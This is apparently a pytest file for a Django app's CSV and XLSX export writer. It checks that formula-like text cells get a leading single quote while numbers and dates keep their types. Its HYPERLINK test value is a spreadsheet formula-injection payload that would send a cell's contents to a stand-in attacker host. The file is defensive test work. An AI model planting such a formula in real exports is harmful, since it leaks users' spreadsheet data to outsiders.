"""The shared spreadsheet writer (issue 14, item 4): every text cell a spreadsheet would read as a
formula gets OWASP's single quote; numbers, dates and amounts stay typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils.translation import gettext_lazy

from partnerhub.core.exports import CsvWriter, csv_bytes, neutralise, xlsx_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Beta")'


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+7 495", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd", "\uff1d1+1"],
)
def test_text_that_starts_a_formula_gets_a_single_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "ООО «Альфа»", "a=b", "'=already text", " =1"])
def test_other_text_is_kept(text):
    assert neutralise(text) == text


def read_csv(data: bytes, delimiter: str = ";") -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_csv_neutralises_text_and_keeps_numbers_as_numbers():
    rows = [
        ["Имя", "Сумма", "Штук", "Дата"],
        [HOSTILE, Decimal("-1500.50"), -3, dt.date(2026, 6, 22)],
    ]

    parsed = read_csv(csv_bytes(rows))

    assert parsed[1] == ["'" + HOSTILE, "-1500,50", "-3", "22.06.2026"]


def test_csv_with_a_comma_and_a_decimal_point():
    data = csv_bytes([["-x", Decimal("2.50"), None]], delimiter=",", decimal_comma=False)

    assert read_csv(data, ",") == [["'-x", "2.50", ""]]
    assert data.endswith(b"\r\n")


def test_csv_lazy_translations_are_text_too():
    assert CsvWriter().cell(gettext_lazy("=1")) == "'=1"


def test_csv_rows_stream_one_line_each():
    writer = CsvWriter(delimiter=",")

    assert writer.row(["@a", 1]) == "'@a,1\r\n"
    assert writer.row(["b;c", Decimal("0.10")]) == 'b;c,"0,10"\r\n'


def test_an_aware_moment_is_written_in_moscow_time():
    moment = dt.datetime(2026, 6, 22, 6, 30, tzinfo=dt.UTC)

    assert CsvWriter().cell(moment) == "22.06.2026 09:30"


def test_xlsx_text_is_neutralised_and_stored_as_text():
    data = xlsx_bytes([["Имя", "Сумма"], [HOSTILE, Decimal("-1500.50")], ["@x", 7]])

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    name, amount = sheet["A2"], sheet["B2"]
    assert name.value == "'" + HOSTILE
    assert name.data_type == "s"
    assert amount.data_type == "n"
    assert Decimal(str(amount.value)) == Decimal("-1500.50")
    assert amount.number_format == "#,##0.00"
    assert sheet["A3"].value == "'@x"
    assert sheet["B3"].value == 7


def test_xlsx_dates_are_dates():
    data = xlsx_bytes([[dt.date(2026, 6, 22), dt.datetime(2026, 6, 22, 6, 30, tzinfo=dt.UTC)]])

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].is_date
    assert sheet["A1"].value == dt.datetime(2026, 6, 22)
    assert sheet["B1"].value == dt.datetime(2026, 6, 22, 9, 30)
